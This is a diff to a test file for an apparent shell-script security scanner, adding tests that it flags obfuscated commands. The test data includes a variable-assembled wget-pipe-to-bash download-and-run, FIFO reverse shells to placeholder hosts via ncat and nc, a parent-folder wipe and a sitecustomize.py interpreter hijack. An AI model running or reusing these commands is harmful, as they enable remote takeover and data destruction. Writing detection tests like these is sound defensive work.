@@ -112,3 +112,18 @@ def test_parent_folder_wipe_and_interpreter_hijack():
     assert top(SH, "rm -rf ./* ../*\n", "IG714") == Severity.HIGH
     assert top(SH, "cp payload.py ~/.local/lib/python3.11/site-packages/sitecustomize.py\n", "IG708") == Severity.HIGH
     assert script_rules(SH, "rm -rf ./build/*\ncp dist/tool ~/.local/bin/tool\n") == set()
+
+
+def test_a_command_built_by_appending_to_variables_is_read_whole():
+    """`a+="..."` pieces joined in an eval: the command is what the pieces spell, not the first piece."""
+    text = 'a="wg"\na+="et -qO-"\nb="| ba"\nb+="sh"\neval "$a https://get.example.org/i $b"\n'
+    assert top("run.sh", text, "IG701") == Severity.CRITICAL
+
+
+def test_a_shell_with_stderr_merged_between_a_fifo_and_a_socket_is_a_reverse_shell():
+    """`cat pipe | bash -i 2>&1 | ncat host port > pipe`: the 2>&1 makes tree-sitter group the first
+    stages apart; the pipeline is still a shell wired to a socket."""
+    text = 'P=$(mktemp -u)\nmkfifo "$P"\ncat "$P" | bash -i 2>&1 | ncat relay.example.net 4444 > "$P"\n'
+    assert top("pair.sh", text, "IG704") == Severity.CRITICAL
+    wrapped = 'P=/tmp/.p\nmkfifo $P\nsetsid bash -c "cat $P | sh -i 2>&1 | nc 203.0.113.9 7000 >$P" &\n'
+    assert top("pair.sh", wrapped, "IG704") == Severity.CRITICAL
